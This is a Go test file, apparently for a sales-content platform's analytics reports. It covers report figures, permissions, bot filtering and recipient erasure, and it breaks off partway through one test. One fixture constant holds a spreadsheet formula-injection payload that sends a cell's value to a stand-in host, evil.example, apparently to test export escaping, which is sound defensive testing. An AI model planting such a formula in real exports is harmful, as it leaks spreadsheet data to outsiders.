package analytics_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/matryer/is"

	"github.com/briefcasehq/briefcase/analytics"
	"github.com/briefcasehq/briefcase/errcode"
	"github.com/briefcasehq/briefcase/items"
	"github.com/briefcasehq/briefcase/localblobs"
	"github.com/briefcasehq/briefcase/share"
	"github.com/briefcasehq/briefcase/spots"
	"github.com/briefcasehq/briefcase/store"
	"github.com/briefcasehq/briefcase/store/memstore"
	"github.com/briefcasehq/briefcase/store/sqlitestore"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files under testdata/")

// The fixture's days: D1 and D2 are the last days of February 2026, D3 the
// first of March; the service's clock reads the morning of 2 March, so the
// default range (30 days ending today) is 2026-02-01..2026-03-02.
var (
	repNow      = time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
	repD1       = time.Date(2026, 2, 27, 0, 0, 0, 0, time.UTC)
	repD2       = repD1.AddDate(0, 0, 1)
	repD3       = repD1.AddDate(0, 0, 2)
	repJanuary  = time.Date(2026, 1, 20, 0, 0, 0, 0, time.UTC)
	repCreated  = time.Date(2026, 1, 15, 10, 0, 0, 0, time.UTC)
	repLongAgo  = time.Date(2025, 6, 1, 10, 0, 0, 0, time.UTC)
	repLastWeek = time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
)

// repAt returns a time on day d.
func repAt(d time.Time, h, m, s int) time.Time {
	return d.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute + time.Duration(s)*time.Second)
}

// repClock is a time the test moves by hand.
type repClock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *repClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *repClock) set(t time.Time) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = t
}

// formFeedPages is an extractor that splits a file's text at form feeds: one page
// each.
type formFeedPages struct{}

func (formFeedPages) Extract(_ context.Context, r io.ReaderAt, size int64, _, _ string) ([]string, error) {
	b := make([]byte, size)
	if _, err := r.ReadAt(b, 0); err != nil && !errors.Is(err, io.EOF) {
		return nil, err
	}
	return strings.Split(string(b), "\f"), nil
}

// repBackends are the stores the reports are tested over.
var repBackends = []struct {
	name string
	open func(t *testing.T) store.Store
}{
	{"memstore", func(t *testing.T) store.Store { return memstore.New() }},
	{"sqlitestore", func(t *testing.T) store.Store {
		db, err := sqlitestore.Open(context.Background(), filepath.Join(t.TempDir(), "briefcase.db"), sqlitestore.Options{})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { db.Close() })
		return db
	}},
}

// repWorld is the services over one store, with these principals:
//
//	ada   admin
//	ann   analyst
//	olga  owner of Product (public)
//	carl  coowner of Product through group pm
//	fred  owner of Field (restricted; group sales may view)
//	sam   seller: group sales
//	vic   group sales, nothing else
//
// and these items: in Product deck (4 pages), sheet (2 pages), video (no
// pages), stale (created long ago) and draft (a draft); in Field fieldDoc
// (3 pages) and brochure (created yesterday).
type repWorld struct {
	t      *testing.T
	ctx    context.Context
	st     store.Store
	clock  *repClock
	spots  *spots.Service
	items  *items.Service
	an     *analytics.Service
	people map[string]spots.Principal

	product, field                   string
	deck, sheet, video, stale, draft string
	fieldDoc, brochure               string
}

func eachRepStore(t *testing.T, f func(t *testing.T, w *repWorld)) {
	for _, b := range repBackends {
		t.Run(b.name, func(t *testing.T) { f(t, newRepWorld(t, b.open(t))) })
	}
}

func newRepWorld(t *testing.T, st store.Store) *repWorld {
	t.Helper()
	as, ok := st.(analytics.Store)
	if !ok {
		t.Fatalf("%T does not implement analytics.Store", st)
	}
	ctx := context.Background()
	clk := &repClock{t: repCreated}
	sp := spots.NewService(st, func(ctx context.Context, fn func(spots.Stores) error) error {
		return st.Atomic(ctx, func(tx store.Store) error { return fn(tx) })
	}, spots.Options{Now: clk.Now})
	blobs, err := localblobs.New(filepath.Join(t.TempDir(), "blobs"))
	if err != nil {
		t.Fatal(err)
	}
	it := items.NewService(st, func(ctx context.Context, fn func(items.Stores) error) error {
		return st.Atomic(ctx, func(tx store.Store) error { return fn(tx) })
	}, sp, blobs, items.Options{Now: clk.Now, Extractor: formFeedPages{}})
	w := &repWorld{t: t, ctx: ctx, st: st, clock: clk, spots: sp, items: it, people: map[string]spots.Principal{},
		an: analytics.NewService(as, sp, it, analytics.Options{Now: clk.Now})}

	w.person(spots.Principal{ID: "ada", Name: "Ada Admin", Email: "ada@example.com", Roles: []spots.PlatformRole{spots.Admin}}, true)
	w.person(spots.Principal{ID: "ann", Name: "Ann Analyst", Email: "ann@example.com", Roles: []spots.PlatformRole{spots.Analyst}}, false)
	w.person(spots.Principal{ID: "olga", Name: "Olga Owner", Email: "olga@example.com"}, true)
	w.person(spots.Principal{ID: "carl", Name: "Carl Coowner", Email: "carl@example.com", Groups: []string{"pm"}}, true)
	w.person(spots.Principal{ID: "fred", Name: "Fred Field", Email: "fred@example.com"}, true)
	w.person(spots.Principal{ID: "sam", Name: "Sam Seller", Email: "sam@example.com", Groups: []string{"sales"}}, false)
	w.person(spots.Principal{ID: "vic", Name: "Vic Viewer", Email: "vic@example.com", Groups: []string{"sales"}}, false)

	w.product = w.spot("olga", "Product", spots.Public)
	w.grant("olga", w.product, spots.Group("pm"), spots.Coowner)
	w.field = w.spot("fred", "Field", spots.Restricted)
	w.grant("fred", w.field, spots.Group("sales"), spots.Viewer)

	w.deck = w.item("olga", w.product, items.KindPresentation, "Product Deck", "a\fb\fc\fd")
	w.sheet = w.item("olga", w.product, items.KindDocument, "Pricing Sheet", "a\fb")
	w.video = w.item("olga", w.product, items.KindVideo, "Demo Video", "")
	w.fieldDoc = w.item("fred", w.field, items.KindDocument, "Field Guide", "a\fb\fc")
	dr, err := it.Create(w.as("olga"), items.NewItem{SpotID: w.product, Kind: items.KindDocument, Title: "Next Year",
		Audience: items.External, Status: items.StatusDraft})
	if err != nil {
		t.Fatal(err)
	}
	w.draft = dr.ID
	clk.set(repLongAgo)
	w.stale = w.item("olga", w.product, items.KindDocument, "Old Brochure", "")
	clk.set(repLastWeek)
	w.brochure = w.item("fred", w.field, items.KindPDF, "New Brochure", "")
	clk.set(repNow)
	return w
}

func (w *repWorld) person(p spots.Principal, contributor bool) {
	w.t.Helper()
	sys := spots.WithPrincipal(w.ctx, spots.SystemPrincipal())
	if contributor {
		p.Trainings = []spots.Training{{Name: spots.TrainingContentContributor}}
	}
	saved, err := w.spots.SavePrincipal(sys, p)
	if err != nil {
		w.t.Fatal(err)
	}
	w.people[p.ID] = saved
}

// as returns a context acting as the principal id.
func (w *repWorld) as(id string) context.Context {
	w.t.Helper()
	p, ok := w.people[id]
	if !ok {
		w.t.Fatalf("no principal %q", id)
	}
	return spots.WithPrincipal(w.ctx, p)
}

func (w *repWorld) spot(owner, name string, vis spots.Visibility) string {
	w.t.Helper()
	s, err := w.spots.Create(w.as(owner), spots.NewSpot{Name: name, Kind: spots.KindProduct, Visibility: vis})
	if err != nil {
		w.t.Fatal(err)
	}
	return s.ID
}

func (w *repWorld) grant(by, spotID string, sub spots.Subject, role spots.Role) {
	w.t.Helper()
	if _, err := w.spots.Grant(w.as(by), spotID, sub, role); err != nil {
		w.t.Fatal(err)
	}
}

// item creates a published external item; a non-empty body is uploaded as
// its first version (pages split at form feeds).
func (w *repWorld) item(owner, spotID string, kind items.Kind, title, body string) string {
	w.t.Helper()
	it, err := w.items.Create(w.as(owner), items.NewItem{SpotID: spotID, Kind: kind, Title: title, Audience: items.External})
	if err != nil {
		w.t.Fatal(err)
	}
	if body != "" {
		_, err := w.items.AddVersion(w.as(owner), it.ID, items.NewVersion{Filename: "file.txt", MIMEType: "text/plain",
			Body: strings.NewReader(body)})
		if err != nil {
			w.t.Fatal(err)
		}
	}
	return it.ID
}

// Shares and visits of the fixture.
const (
	repP1 = "share-p1" // sam's pitch
	repP2 = "share-p2" // olga's pitch
	repR1 = "share-r1" // sam's room

	repBuyer = "buyer@acme.example"
	repCFO   = "cfo@acme.example"
	repLead  = "lead@beta.example"

	repInjection = `=HYPERLINK("http://evil.example/?q="&A1, "click")`
)

// events is the fixed fixture (see the expectations in the tests):
// internal activity on three days and one in January, five human visits
// (buyer opens p1 twice: a new visit each time), and a link scanner's visit
// on buyer's link, marked as a suspected bot.
func (w *repWorld) events() []analytics.Event {
	type E = analytics.Event
	const (
		viewed     = analytics.ItemViewed
		downloaded = analytics.ItemDownloaded
		bookmarked = analytics.ItemBookmarked
		pitched    = analytics.ItemPitched
		searched   = analytics.Searched
		opened     = analytics.LinkOpened
		page       = analytics.PageViewed
		xdownload  = analytics.ExternalDownloaded
		clicked    = analytics.LinkClicked
	)
	pr, fd := w.product, w.field
	visit := func(typ analytics.EventType, t time.Time, share, owner, view, recipient, item, spot string, pg int, ms int64) E {
		return E{Type: typ, At: t, ShareID: share, ShareOwner: owner, ViewID: view, Recipient: recipient, ItemID: item,
			SpotID: spot, Page: pg, ActiveMS: ms}
	}
	bot := func(e E) E { e.SuspectedBot = true; return e }
	return []E{
		// January, before the default range.
		{Type: viewed, At: repAt(repJanuary, 9, 0, 0), Actor: "olga", ItemID: w.stale, SpotID: pr},

		// D1.
		{Type: pitched, At: repAt(repD1, 8, 0, 0), Actor: "olga", ItemID: w.deck, SpotID: pr, ShareID: repP2, ShareOwner: "olga"},
		{Type: viewed, At: repAt(repD1, 9, 0, 0), Actor: "olga", ItemID: w.deck, SpotID: pr},
		{Type: viewed, At: repAt(repD1, 9, 30, 0), Actor: "sam", ItemID: w.deck, SpotID: pr},
		visit(opened, repAt(repD1, 15, 0, 0), repP2, "olga", "v5", repLead, "", "", 0, 0),
		visit(page, repAt(repD1, 15, 1, 0), repP2, "olga", "v5", repLead, w.deck, pr, 1, 7000),

		// D2.
		{Type: viewed, At: repAt(repD2, 10, 0, 0), Actor: "sam", ItemID: w.deck, SpotID: pr},
		{Type: downloaded, At: repAt(repD2, 10, 5, 0), Actor: "sam", ItemID: w.deck, SpotID: pr},
		{Type: bookmarked, At: repAt(repD2, 10, 6, 0), Actor: "sam", ItemID: w.sheet, SpotID: pr},
		{Type: pitched, At: repAt(repD2, 11, 0, 0), Actor: "sam", ItemID: w.deck, SpotID: pr, ShareID: repP1, ShareOwner: "sam"},
		{Type: pitched, At: repAt(repD2, 11, 0, 0), Actor: "sam", ItemID: w.sheet, SpotID: pr, ShareID: repP1, ShareOwner: "sam"},
		{Type: searched, At: repAt(repD2, 12, 0, 0), Actor: "sam", Query: "pricing", Hits: 0},
		{Type: searched, At: repAt(repD2, 12, 30, 0), Actor: "vic", Query: "  Pricing ", Hits: 0},
		bot(visit(opened, repAt(repD2, 13, 59, 0), repP1, "sam", "v4", repBuyer, "", "", 0, 0)),
		bot(visit(page, repAt(repD2, 13, 59, 30), repP1, "sam", "v4", repBuyer, w.deck, pr, 1, 100)),
		visit(opened, repAt(repD2, 14, 0, 0), repP1, "sam", "v1", repBuyer, "", "", 0, 0),
		visit(page, repAt(repD2, 14, 1, 0), repP1, "sam", "v1", repBuyer, w.deck, pr, 1, 10000),
		visit(page, repAt(repD2, 14, 2, 0), repP1, "sam", "v1", repBuyer, w.deck, pr, 2, 20000),
		visit(page, repAt(repD2, 14, 3, 0), repP1, "sam", "v1", repBuyer, w.deck, pr, 1, 5000),
		visit(page, repAt(repD2, 14, 5, 0), repP1, "sam", "v1", repBuyer, w.sheet, pr, 1, 3000),
		visit(xdownload, repAt(repD2, 14, 6, 0), repP1, "sam", "v1", repBuyer, w.deck, pr, 0, 0),

		// D3.
		{Type: viewed, At: repAt(repD3, 9, 0, 0), Actor: "vic", ItemID: w.fieldDoc, SpotID: fd},
		{Type: analytics.RoomUpdated, At: repAt(repD3, 9, 10, 0), Actor: "sam", ShareID: repR1, ShareOwner: "sam"},
		{Type: pitched, At: repAt(repD3, 9, 10, 0), Actor: "sam", ItemID: w.fieldDoc, SpotID: fd, ShareID: repR1, ShareOwner: "sam"},
		{Type: searched, At: repAt(repD3, 9, 20, 0), Actor: "sam", Query: repInjection, Hits: 0},
		{Type: searched, At: repAt(repD3, 9, 21, 0), Actor: "vic", Query: "deck", Hits: 5},
		{Type: searched, At: repAt(repD3, 9, 22, 0), Actor: "olga", Query: "roadmap", Hits: 1},
		{Type: searched, At: repAt(repD3, 9, 23, 0), Actor: "olga", Query: "Roadmap", Hits: 0},
		{Type: searched, At: repAt(repD3, 9, 24, 0), Actor: "ann", Query: "-draft", Hits: 0},
		visit(opened, repAt(repD3, 10, 0, 0), repP1, "sam", "v2", repBuyer, "", "", 0, 0),
		visit(page, repAt(repD3, 10, 1, 0), repP1, "sam", "v2", repBuyer, w.deck, pr, 3, 6000),
		visit(page, repAt(repD3, 10, 2, 0), repP1, "sam", "v2", repBuyer, w.deck, pr, 4, 6000),
		visit(clicked, repAt(repD3, 10, 3, 0), repP1, "sam", "v2", repBuyer, w.video, pr, 0, 0),
		visit(opened, repAt(repD3, 11, 0, 0), repP1, "sam", "v3", repCFO, "", "", 0, 0),
		visit(page, repAt(repD3, 11, 1, 0), repP1, "sam", "v3", repCFO, w.sheet, pr, 1, 4000),
		visit(page, repAt(repD3, 11, 2, 0), repP1, "sam", "v3", repCFO, w.sheet, pr, 2, 4000),
		visit(opened, repAt(repD3, 16, 0, 0), repR1, "sam", "v6", repBuyer, "", "", 0, 0),
		visit(page, repAt(repD3, 16, 1, 0), repR1, "sam", "v6", repBuyer, w.fieldDoc, fd, 1, 9000),
	}
}

// record feeds events through the recorder and writes them.
func (w *repWorld) record(evs ...analytics.Event) {
	w.t.Helper()
	w.an.Record(w.ctx, evs...)
	if err := w.an.Flush(w.ctx); err != nil {
		w.t.Fatal(err)
	}
}

func repRate(f float64) *float64 { return &f }

// Expected rows of the fixture, over the default range without bots.
func (w *repWorld) wantDeck() analytics.ContentRow {
	// Views: olga and sam on D1, sam on D2. Buyers: v1 read pages 1, 2, 1
	// (10+20+5 s), v2 pages 3 and 4 (6+6 s), v5 page 1 (7 s): 6 beacons,
	// 54 s over 5 distinct (visit, page) pairs; completion (2/4 + 2/4 +
	// 1/4) / 3. Score: 3 views + 1 download×2 + 2 pitches×3 + 6 pages×0.5
	// + 0.9 min + 1 buyer's download×3.
	return analytics.ContentRow{ItemID: w.deck, Title: "Product Deck", SpotID: w.product, Views: 3, UniqueViewers: 2,
		Downloads: 1, Pitches: 2, ExternalOpens: 3, UniqueRecipients: 2, PageViews: 6, ActiveMS: 54000,
		ExternalDownloads: 1, PagesRead: 5, AvgActiveMSPerPage: 10800, PageCount: 4, CompletionRate: repRate(0.4167),
		Score: 17.9}
}

func (w *repWorld) wantSheet() analytics.ContentRow {
	// Bookmarked by sam, pitched in p1; v1 read page 1 (3 s), v3 pages 1
	// and 2 (4+4 s); completion (1/2 + 2/2) / 2.
	return analytics.ContentRow{ItemID: w.sheet, Title: "Pricing Sheet", SpotID: w.product, Bookmarks: 1, Pitches: 1,
		ExternalOpens: 2, UniqueRecipients: 2, PageViews: 3, ActiveMS: 11000, PagesRead: 3, AvgActiveMSPerPage: 3667,
		PageCount: 2, CompletionRate: repRate(0.75), Score: 6.6833}
}

func (w *repWorld) wantFieldDoc() analytics.ContentRow {
	return analytics.ContentRow{ItemID: w.fieldDoc, Title: "Field Guide", SpotID: w.field, Views: 1, UniqueViewers: 1,
		Pitches: 1, ExternalOpens: 1, UniqueRecipients: 1, PageViews: 1, ActiveMS: 9000, PagesRead: 1,
		AvgActiveMSPerPage: 9000, PageCount: 3, CompletionRate: repRate(0.3333), Score: 4.65}
}

func (w *repWorld) wantVideo() analytics.ContentRow {
	// A click, no page: no completion.
	return analytics.ContentRow{ItemID: w.video, Title: "Demo Video", SpotID: w.product, ExternalClicks: 1, Score: 1}
}

// repCheck compares got with want, failing with both printed.
func repCheck[T any](t *testing.T, what string, got, want T) {
	t.Helper()
	if g, wnt := repShow(got), repShow(want); g != wnt {
		t.Errorf("%s:\ngot  %s\nwant %s", what, g, wnt)
	}
}

// repShow prints v with its field names; pointers to numbers are followed.
func repShow(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		return err.Error()
	}
	return string(b)
}

func repRows[T any](t *testing.T, r analytics.Report[T], err error) []T {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
	return r.Items
}

// The reports' rows as the principal who sees them; any error fails the
// test.
func (w *repWorld) content(who string, q analytics.ReportQuery) []analytics.ContentRow {
	w.t.Helper()
	r, err := w.an.ContentReport(w.as(who), q)
	return repRows(w.t, r, err)
}

func (w *repWorld) spotUsage(who string, q analytics.ReportQuery) []analytics.SpotRow {
	w.t.Helper()
	r, err := w.an.SpotReport(w.as(who), q)
	return repRows(w.t, r, err)
}

func (w *repWorld) unused(who string, q analytics.ReportQuery) []analytics.UnusedRow {
	w.t.Helper()
	r, err := w.an.UnusedReport(w.as(who), q)
	return repRows(w.t, r, err)
}

func (w *repWorld) gaps(who string, q analytics.SearchGapQuery) []analytics.SearchGapRow {
	w.t.Helper()
	r, err := w.an.SearchGapReport(w.as(who), q)
	return repRows(w.t, r, err)
}

func (w *repWorld) recipients(who string, q analytics.PitchQuery) []analytics.RecipientRow {
	w.t.Helper()
	r, err := w.an.PitchRecipients(w.as(who), q)
	return repRows(w.t, r, err)
}

func (w *repWorld) pitchItems(who string, q analytics.PitchQuery) []analytics.PitchItemRow {
	w.t.Helper()
	r, err := w.an.PitchItems(w.as(who), q)
	return repRows(w.t, r, err)
}

func (w *repWorld) pitchPages(who string, q analytics.PitchQuery) []analytics.PitchPageRow {
	w.t.Helper()
	r, err := w.an.PitchPages(w.as(who), q)
	return repRows(w.t, r, err)
}

func (w *repWorld) sellers(who string, q analytics.ReportQuery) []analytics.SellerRow {
	w.t.Helper()
	r, err := w.an.SellerReport(w.as(who), q)
	return repRows(w.t, r, err)
}

func TestContentReport(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		is := is.New(t)
		w.record(w.events()...)
		for _, who := range []string{"ann", "ada"} {
			rep, err := w.an.ContentReport(w.as(who), analytics.ReportQuery{})
			is.NoErr(err)
			is.Equal(rep.From, analytics.Day("2026-02-01"))
			is.Equal(rep.To, analytics.Day("2026-03-02"))
			is.Equal(rep.NextCursor, "")
			repCheck(t, who+": content report", rep.Items,
				[]analytics.ContentRow{w.wantDeck(), w.wantSheet(), w.wantFieldDoc(), w.wantVideo()})
		}

		// The scanner's visit counts only when asked for: one more visit,
		// beacon, 0.1 s and page read on deck (same recipient).
		bots := w.wantDeck()
		bots.ExternalOpens, bots.PageViews, bots.ActiveMS, bots.PagesRead = 4, 7, 54100, 6
		bots.AvgActiveMSPerPage, bots.CompletionRate, bots.Score = 9017, repRate(0.375), 18.4017
		got := w.content("ann", analytics.ReportQuery{IncludeBots: true})
		repCheck(t, "with bots", got, []analytics.ContentRow{bots, w.wantSheet(), w.wantFieldDoc(), w.wantVideo()})

		// The range's ends are included and nothing outside counts: D2..D3
		// leaves out D1 (two views, olga's pitch, visit v5).
		deck := w.wantDeck()
		deck.Views, deck.UniqueViewers, deck.Pitches, deck.ExternalOpens, deck.UniqueRecipients = 1, 1, 1, 2, 1
		deck.PageViews, deck.ActiveMS, deck.PagesRead, deck.AvgActiveMSPerPage = 5, 47000, 4, 11750
		deck.CompletionRate, deck.Score = repRate(0.5), 12.2833
		got = w.content("ann", analytics.ReportQuery{From: "2026-02-28", To: "2026-03-01"})
		repCheck(t, "D2..D3", got, []analytics.ContentRow{deck, w.wantSheet(), w.wantFieldDoc(), w.wantVideo()})
		got = w.content("ann", analytics.ReportQuery{From: "2026-03-02", To: "2026-03-02"})
		repCheck(t, "today", got, []analytics.ContentRow{})
		got = w.content("ann", analytics.ReportQuery{From: "2026-01-01", To: "2026-01-31"})
		repCheck(t, "January", got, []analytics.ContentRow{{ItemID: w.stale, Title: "Old Brochure", SpotID: w.product,
			Views: 1, UniqueViewers: 1, Score: 1}})

		// Filtered by spot; paged.
		got = w.content("ann", analytics.ReportQuery{SpotIDs: []string{w.field}})
		repCheck(t, "Field", got, []analytics.ContentRow{w.wantFieldDoc()})
		repP1, err := w.an.ContentReport(w.as("ann"), analytics.ReportQuery{Limit: 3})
		is.NoErr(err)
		is.Equal(repP1.NextCursor, "3")
		repCheck(t, "page 1", repP1.Items, []analytics.ContentRow{w.wantDeck(), w.wantSheet(), w.wantFieldDoc()})
		repP2, err := w.an.ContentReport(w.as("ann"), analytics.ReportQuery{Limit: 3, Cursor: repP1.NextCursor})
		is.NoErr(err)
		is.Equal(repP2.NextCursor, "")
		repCheck(t, "page 2", repP2.Items, []analytics.ContentRow{w.wantVideo()})
	})
}

// TestDeliveriesAreCountedAsGiven: the share service de-duplicates beacons
// by (view, seq) before it reports them, and a buyer who opens a link again
// starts a new visit (the fixture's v1 and v2); the analytics layer counts
// what it is given, so an event delivered twice counts twice.
func TestDeliveriesAreCountedAsGiven(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		ev := analytics.Event{Type: analytics.PageViewed, At: repAt(repD2, 14, 1, 0), ShareID: repP1, ShareOwner: "sam",
			ViewID: "v1", Recipient: repBuyer, ItemID: w.deck, SpotID: w.product, Page: 1, ActiveMS: 10000}
		opened := analytics.Event{Type: analytics.LinkOpened, At: repAt(repD2, 14, 0, 0), ShareID: repP1, ShareOwner: "sam",
			ViewID: "v1", Recipient: repBuyer}
		w.record(opened, ev)
		one := w.content("ann", analytics.ReportQuery{})
		repCheck(t, "once", one, []analytics.ContentRow{{ItemID: w.deck, Title: "Product Deck", SpotID: w.product,
			ExternalOpens: 1, UniqueRecipients: 1, PageViews: 1, ActiveMS: 10000, PagesRead: 1, AvgActiveMSPerPage: 10000,
			PageCount: 4, CompletionRate: repRate(0.25), Score: 0.6667}})

		w.record(opened, ev) // delivered again
		two := w.content("ann", analytics.ReportQuery{})
		repCheck(t, "twice", two, []analytics.ContentRow{{ItemID: w.deck, Title: "Product Deck", SpotID: w.product,
			ExternalOpens: 1, UniqueRecipients: 1, PageViews: 2, ActiveMS: 20000, PagesRead: 1, AvgActiveMSPerPage: 20000,
			PageCount: 4, CompletionRate: repRate(0.25), Score: 1.3333}})
		rec := w.recipients("sam", analytics.PitchQuery{})
		repCheck(t, "recipient twice", rec, []analytics.RecipientRow{{ShareID: repP1, ShareOwner: "sam", Recipient: repBuyer,
			Opens: 2, PageViews: 2, ActiveMS: 20000, FirstAt: repAt(repD2, 14, 0, 0), LastAt: repAt(repD2, 14, 1, 0)}})
	})
}

func TestErasureChangesReports(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		is := is.New(t)
		w.record(w.events()...)
		_, err := w.an.EraseRecipient(w.as("ann"), repCFO)
		is.True(errors.Is(err, analytics.ErrForbidden)) // admins only
		_, err = w.an.EraseRecipient(w.as("ada"), "CFO@acme.example ")
		is.NoErr(err)

		// cfo's visit v3 (sheet pages 1 and 2, 8 s) is gone; buyer's read
		// of page 1 stays.
		sheet := w.wantSheet()
		sheet.ExternalOpens, sheet.UniqueRecipients, sheet.PageViews, sheet.ActiveMS, sheet.PagesRead = 1, 1, 1, 3000, 1
		sheet.AvgActiveMSPerPage, sheet.CompletionRate, sheet.Score = 3000, repRate(0.5), 5.55
		got := w.content("ann", analytics.ReportQuery{})
		repCheck(t, "content after erasure", got, []analytics.ContentRow{w.wantDeck(), sheet, w.wantFieldDoc(), w.wantVideo()})

		rec := w.recipients("ann", analytics.PitchQuery{})
		for _, r := range rec {
			is.True(r.Recipient != repCFO)
		}
		is.Equal(len(rec), 3)
		sellers := w.sellers("sam", analytics.ReportQuery{})
		is.Equal(len(sellers), 1)
		is.Equal(sellers[0].Recipients, int64(1))
		is.Equal(sellers[0].Opens, int64(3))
		is.Equal(sellers[0].ActiveMS, int64(59000))

		// Erasing someone who left nothing changes nothing.
		_, err = w.an.EraseRecipient(w.as("ada"), "nobody@example.com")
		is.NoErr(err)
		repCheck(t, "unchanged", w.content("ann", analytics.ReportQuery{}), got)
	})
}

func TestContentReportPermissions(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		is := is.New(t)
		w.record(w.events()...)
		productRows := []analytics.ContentRow{w.wantDeck(), w.wantSheet(), w.wantVideo()}

		// The owner and the coowner (through a group) see their spot only.
		for _, who := range []string{"olga", "carl"} {
			got := w.content(who, analytics.ReportQuery{})
			repCheck(t, who, got, productRows)
			got = w.content(who, analytics.ReportQuery{SpotIDs: []string{w.product}})
			repCheck(t, who+" asking for Product", got, productRows)
			// Another spot, one it cannot even see, and one that does not
			// exist are refused alike.
			for _, other := range []string{w.field, "no-such-spot"} {
				_, err := w.an.ContentReport(w.as(who), analytics.ReportQuery{SpotIDs: []string{w.product, other}})
				is.True(errors.Is(err, analytics.ErrForbidden))
			}
		}
		got := w.content("fred", analytics.ReportQuery{})
		repCheck(t, "fred", got, []analytics.ContentRow{w.wantFieldDoc()})

		// Viewers, sellers and anonymous callers get nothing, whatever
		// they ask for.
		for _, who := range []string{"vic", "sam"} {
			for _, q := range []analytics.ReportQuery{{}, {SpotIDs: []string{w.product}}, {SpotIDs: []string{"no-such-spot"}}} {
				_, err := w.an.ContentReport(w.as(who), q)
				is.True(errors.Is(err, analytics.ErrForbidden))
				_, err = w.an.SpotReport(w.as(who), q)
				is.True(errors.Is(err, analytics.ErrForbidden))
				_, err = w.an.UnusedReport(w.as(who), q)
				is.True(errors.Is(err, analytics.ErrForbidden))
			}
		}
		_, err := w.an.ContentReport(w.ctx, analytics.ReportQuery{})
		is.True(errors.Is(err, spots.ErrUnauthenticated))

		// A coowner whose training was revoked is capped to viewer.
		sys := spots.WithPrincipal(w.ctx, spots.SystemPrincipal())
		carl, err := w.spots.RevokeTraining(sys, "carl", spots.TrainingContentContributor)
		is.NoErr(err)
		w.people["carl"] = carl
		_, err = w.an.ContentReport(w.as("carl"), analytics.ReportQuery{})
		is.True(errors.Is(err, analytics.ErrForbidden))

		// Analysts see every spot, also one they cannot open.
		got = w.content("ann", analytics.ReportQuery{SpotIDs: []string{w.field}})
		repCheck(t, "ann, Field", got, []analytics.ContentRow{w.wantFieldDoc()})
	})
}

func TestSpotReport(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		w.record(w.events()...)
		product := analytics.SpotRow{SpotID: w.product, Name: "Product", Views: 3, UniqueViewers: 2, Downloads: 1,
			Bookmarks: 1, Pitches: 3, PageViews: 9, ActiveMS: 65000, ExternalDownloads: 1, ExternalClicks: 1,
			ItemsEngaged: 3, Score: 25.5833}
		field := analytics.SpotRow{SpotID: w.field, Name: "Field", Views: 1, UniqueViewers: 1, Pitches: 1, PageViews: 1,
			ActiveMS: 9000, ItemsEngaged: 1, Score: 4.65}
		repCheck(t, "analyst", w.spotUsage("ann", analytics.ReportQuery{}), []analytics.SpotRow{product, field})
		repCheck(t, "admin", w.spotUsage("ada", analytics.ReportQuery{}), []analytics.SpotRow{product, field})
		repCheck(t, "owner", w.spotUsage("olga", analytics.ReportQuery{}), []analytics.SpotRow{product})
		repCheck(t, "coowner", w.spotUsage("carl", analytics.ReportQuery{}), []analytics.SpotRow{product})
		repCheck(t, "Field's owner", w.spotUsage("fred", analytics.ReportQuery{}), []analytics.SpotRow{field})

		bots := product
		bots.PageViews, bots.ActiveMS, bots.Score = 10, 65100, 26.085
		repCheck(t, "with bots", w.spotUsage("ann", analytics.ReportQuery{IncludeBots: true}),
			[]analytics.SpotRow{bots, field})
		// D1 alone: olga's and sam's views of deck, olga's pitch, v5.
		repCheck(t, "D1", w.spotUsage("ann", analytics.ReportQuery{From: "2026-02-27", To: "2026-02-27"}),
			[]analytics.SpotRow{{SpotID: w.product, Name: "Product", Views: 2, UniqueViewers: 2, Pitches: 1, PageViews: 1,
				ActiveMS: 7000, ItemsEngaged: 1, Score: 5.6167}})
	})
}

func TestUnusedReport(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		is := is.New(t)
		w.record(w.events()...)
		stale := analytics.UnusedRow{ItemID: w.stale, Title: "Old Brochure", SpotID: w.product, Kind: items.KindDocument,
			Audience: items.External, Status: items.StatusPublished, Owners: []string{"user:olga"}, CreatedBy: "olga",
			CreatedAt: repLongAgo, AgeDays: 274}
		brochure := analytics.UnusedRow{ItemID: w.brochure, Title: "New Brochure", SpotID: w.field, Kind: items.KindPDF,
			Audience: items.External, Status: items.StatusPublished, Owners: []string{"user:fred"}, CreatedBy: "fred",
			CreatedAt: repLastWeek, AgeDays: 1}
		// Analysts and admins see every spot's, oldest first; drafts are
		// not live content.
		repCheck(t, "analyst", w.unused("ann", analytics.ReportQuery{}), []analytics.UnusedRow{stale, brochure})
		repCheck(t, "admin", w.unused("ada", analytics.ReportQuery{}), []analytics.UnusedRow{stale, brochure})
		repCheck(t, "owner", w.unused("olga", analytics.ReportQuery{}), []analytics.UnusedRow{stale})
		repCheck(t, "Field's owner", w.unused("fred", analytics.ReportQuery{}), []analytics.UnusedRow{brochure})

		// Over D1 only: deck was used, the rest of Product was not, Field
		// neither; the brochure did not exist yet.
		item := func(id, title string, kind items.Kind, spot, owner string) analytics.UnusedRow {
			return analytics.UnusedRow{ItemID: id, Title: title, SpotID: spot, Kind: kind, Audience: items.External,
				Status: items.StatusPublished, Owners: []string{"user:" + owner}, CreatedBy: owner, CreatedAt: repCreated, AgeDays: 46}
		}
		want := []analytics.UnusedRow{stale,
			item(w.sheet, "Pricing Sheet", items.KindDocument, w.product, "olga"),
			item(w.video, "Demo Video", items.KindVideo, w.product, "olga"),
			item(w.fieldDoc, "Field Guide", items.KindDocument, w.field, "fred")}
